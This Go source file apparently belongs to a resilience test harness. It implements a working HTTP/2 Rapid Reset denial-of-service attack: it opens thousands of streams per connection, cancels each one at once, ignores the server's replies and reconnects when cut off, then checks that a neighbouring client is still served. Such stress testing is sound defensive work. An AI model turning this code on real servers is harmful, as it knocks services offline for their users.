package siege

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"net"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	resetters           = 2
	resetsPerConnection = 20_000 // far more than a client takes back that has a use for its calls
	resetsLeast         = 5_000
	// resetsMost bounds the streams of the attack, however fast the machine is.
	resetsMost = 5_000_000
	// resetBuffer is what of them leaves at once: a system call for each stream would take longer than the stream.
	resetBuffer = 32 << 10
)

// resetRapidly opens streams over HTTP/2 and takes each back at once, so that the node begins what nobody waits for, as fast as
// it can; where the node ends the connection, on another. Whoever is at the same address is served.
func resetRapidly(ctx context.Context, s *stage) error {
	var streams atomic.Int64
	err := s.besideNeighbour(ctx, func() {
		ctx, end := s.flooding(ctx, s.Size.Flood)
		defer end()
		bounded(ctx, resetters, resetsMost/resetsPerConnection, func(ctx context.Context, _ int) {
			n := s.resetOnConnection(ctx)
			streams.Add(n)
			s.sent.Add(n)
		})
	})
	s.reach("streams sent and reset", int(streams.Load()), resetsLeast)
	return err
}

// resetOnConnection resets streams on one connection, until the node ends it or there have been enough, and returns how many.
func (s *stage) resetOnConnection(ctx context.Context) (count int64) {
	conn, err := (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackersAddress)}}).DialContext(ctx, "tcp", s.node.Address)
	if err != nil {
		return 0
	}
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	var drained atomic.Bool
	done, caughtUp := make(chan struct{}), make(chan struct{})
	defer func() { <-done }()
	defer func() { _ = conn.Close() }()
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		close(done)
		return 0
	}
	out := bufio.NewWriterSize(conn, resetBuffer)
	framer := http2.NewFramer(out, conn)
	go func() { // what the node says is not heard, and does not fill the connection
		defer close(done)
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				drained.Store(true)
				return
			}
			switch frame := frame.(type) {
			case *http2.GoAwayFrame:
				drained.Store(true)
			case *http2.PingFrame:
				if frame.IsAck() {
					close(caughtUp)
				}
			}
		}
	}()
	if framer.WriteSettings() != nil || framer.WriteSettingsAck() != nil {
		return 0
	}
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for stream := uint32(1); count < resetsPerConnection && !drained.Load(); stream += 2 {
		head.Reset()
		for _, field := range [][2]string{
			{":method", "POST"}, {":scheme", "http"}, {":authority", s.node.Address}, {":path", pathPosts + "ListPosts"},
			{"content-type", "application/json"}, {"authorization", "Bearer " + s.people.greedy.Key},
		} {
			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}) // to memory
		}
		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true}) != nil ||
			framer.WriteData(stream, true, []byte(`{"pageSize":100}`)) != nil || framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
			return count
		}
		count++
	}
	if !drained.Load() && framer.WritePing(false, [8]byte{}) == nil && out.Flush() == nil { // answered once all before it was read
		select {
		case <-caughtUp:
		case <-done:
		case <-ctx.Done():
		}
	}
	return count
}
